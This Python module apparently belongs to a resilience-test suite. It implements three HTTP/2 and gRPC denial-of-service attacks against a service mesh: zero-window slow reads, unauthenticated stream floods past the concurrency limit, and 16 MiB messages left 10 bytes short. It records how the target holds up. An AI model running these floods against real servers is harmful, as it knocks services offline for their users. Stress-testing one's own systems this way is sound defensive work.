"""Streams that stay: of readers that grant no window, beyond the limit of a stranger, and with unfinished messages."""

import asyncio
import time
from contextlib import suppress

from penstock.proofs.hostile.attacks.attack import AttackOver, AttackRun, Pace
from penstock.proofs.hostile.attacks.floods import GENERATE
from penstock.proofs.hostile.ports import PortKind
from penstock.proofs.hostile.wire.grpc_call import call_headers, framed
from penstock.proofs.hostile.wire.http2 import Headers, Http2Connection, header_block, headers_frame

ZERO_WINDOW_STREAMS = 300
MANY_STREAMS = 5_000
MAX_STRANGER_STREAMS = 100  # that one connection without a key may hold
STREAMS_PER_S = 2_000
BATCH = 50
SETTLE_S = 1.0  # s after the last stream until open ones are counted

UNFINISHED_MESSAGES = 40
MESSAGE_BYTES = 16 << 20
UNSENT_BYTES = 10  # of each message
PIECE_BYTES = 1 << 20
SENT_PER_S = 128 << 20  # bytes
OPEN_STREAMS = "streams that stay open"


async def zero_window_readers(run: AttackRun) -> None:
    """Ask for answers with a body, and grant no byte of it."""

    async def hold_once(run: AttackRun) -> None:
        async with run.http2(initial_window=0, grants_window=False) as connection:
            watch = call_headers("/grpc.health.v1.Health/Watch")
            models: Headers = [(":method", "GET"), (":scheme", "http"), (":path", "/v1/models"), (":authority", "x")]
            at_front = run.port.kind is PortKind.FRONT
            for _ in range(ZERO_WINDOW_STREAMS):
                stream = await connection.open_stream(models if at_front else watch, ends=at_front)
                if not at_front:
                    await connection.send_data(stream, run.count_sent(framed(b"")), ends=True)
            await _hold(run, connection)

    await run.repeat(hold_once)


async def streams_over_the_limit(run: AttackRun) -> None:
    """Open streams without a key and without an end, whatever the server's settings say."""
    block = header_block(call_headers(GENERATE))

    async def open_once(run: AttackRun) -> None:
        async with run.http2() as connection:
            pace, opened = Pace(STREAMS_PER_S), 0
            while opened < MANY_STREAMS and not connection.closed.is_set():
                streams = [connection.next_stream() for _ in range(BATCH)]
                batch = b"".join(headers_frame(stream, block) for stream in streams)
                await connection.send(run.count_sent(batch, BATCH))
                opened += BATCH
                await pace.wait(BATCH)
            await asyncio.sleep(min(SETTLE_S, run.left_s))
            if not connection.closed.is_set():
                ended = sum(answer.has_ended for answer in connection.answers.values())
                found = run.report.findings
                found[OPEN_STREAMS] = max(found.get(OPEN_STREAMS, 0), opened - ended)
            await _hold(run, connection)

    await run.repeat(open_once)


async def unfinished_messages(run: AttackRun) -> None:
    """Announce messages of 16 MiB, send all but 10 bytes of each, and wait."""
    with suppress(AttackOver, OSError):
        async with run.http2() as connection:
            began_at = time.monotonic()
            streams = [await connection.open_stream(call_headers(GENERATE)) for _ in range(UNFINISHED_MESSAGES)]
            async with asyncio.timeout(run.left_s), asyncio.TaskGroup() as group:
                pace = Pace(SENT_PER_S)
                for stream in streams:
                    group.create_task(_send_unfinished(run, connection, stream, pace))
            run.report.findings["s until all were sent"] = time.monotonic() - began_at
            await _hold(run, connection)


async def _send_unfinished(run: AttackRun, connection: Http2Connection, stream: int, pace: Pace) -> None:
    piece = bytes(PIECE_BYTES)
    await connection.send_data(stream, framed(b"", length=MESSAGE_BYTES))
    for start in range(0, MESSAGE_BYTES - UNSENT_BYTES, PIECE_BYTES):
        if run.is_over or connection.closed.is_set() or connection.answers[stream].has_ended:
            return
        data = piece[: MESSAGE_BYTES - UNSENT_BYTES - start]
        await pace.wait(len(data))
        run.report.sent += 1
        run.report.sent_bytes += len(data)
        await connection.send_data(stream, data)


async def _hold(run: AttackRun, connection: Http2Connection) -> None:
    """Wait until the run is over or the mesh has closed the connection."""
    with suppress(TimeoutError):
        async with asyncio.timeout(run.left_s):
            await connection.closed.wait()
